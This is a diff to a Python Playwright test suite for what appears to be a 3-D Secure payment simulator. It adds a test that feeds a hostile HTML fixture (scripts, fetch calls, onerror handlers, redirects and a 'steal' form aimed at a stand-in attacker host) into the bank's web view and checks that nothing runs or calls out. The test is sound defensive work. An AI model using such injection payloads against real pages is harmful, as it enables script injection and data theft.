@@ -1,12 +1,15 @@
 """The phone app at the desk in a real Chromium: screens of the bank beside the phone, pressed with the thumb."""
 
+import asyncio
 from collections.abc import AsyncIterator
 
+import aiohttp
 import pytest
 from playwright.async_api import Page, expect
 
 from acs_sim.running.stack import Stack, running_stack
 from acs_sim.settings.settings import Settings
+from tests.acs.second_sdk import b64
 from tests.support.accessibility import findings
 from tests.support.ports import with_free_ports
 from tests.system.test_shops_in_chromium import picture
@@ -86,3 +89,33 @@ async def test_a_page_of_the_banks_is_filled_in_in_the_frame_of_the_web_view(des
     await bank.locator("#submit").click()
     await expect(desk.locator("#ended")).to_contain_text("Thank you")
     assert desk.errors == []
+
+
+HOSTILE = """<!doctype html>
+<style>@import url(http://EVIL/a.css); body { background: url(http://EVIL/b.png) }</style>
+<link rel="stylesheet" href="http://EVIL/c.css"><link rel="prefetch" href="http://EVIL/d">
+<meta http-equiv="refresh" content="0; url=http://EVIL/e"><base href="http://EVIL/">
+<script>document.title = "ran"; fetch("http://EVIL/f"); parent.postMessage("ran", "*")</script>
+<img src="http://EVIL/g.png" onerror="document.title = 'ran'"><iframe src="http://EVIL/h"></iframe>
+<a id="away" href="http://EVIL/i">away</a> <a id="up" target="_top" href="http://EVIL/j">up</a>
+<form id="steal" method="post" action="http://EVIL/k"><button id="post">post</button></form>
+<form action="HTTPS://EMV3DS/challenge"><input name="challengeValue" value="yes"><button id="submit">Go</button></form>"""
+
+
+async def test_a_page_in_the_web_view_runs_no_script_and_asks_nobody_for_anything(desk, simulator):
+    knocked = []
+    evil = await asyncio.start_server(lambda _, writer: (knocked.append(1), writer.close()), "127.0.0.1", 0)
+    address = f"127.0.0.1:{evil.sockets[0].getsockname()[1]}"
+    acs_html = b64(HOSTILE.replace("EVIL", address).encode())
+    fault = {"at": "CRes", "do": "set", "element": "acsHTML", "value": acs_html}
+    async with evil, aiohttp.ClientSession() as session:
+        await session.post(f"{simulator.addresses.desk}/api/faults", json=fault)
+        await paid(desk, "challenge-html")
+        bank = desk.frame_locator("#web-view")
+        for link in ("#up", "#away", "#post"):  # what is refused leaves an empty frame
+            await bank.locator(link).click()
+            await desk.reload()
+        assert await desk.title() == "Phone app · acs-sim"
+        await bank.locator("#submit").click()
+        await expect(desk.locator("#ended")).to_contain_text("Thank you")
+    assert knocked == []
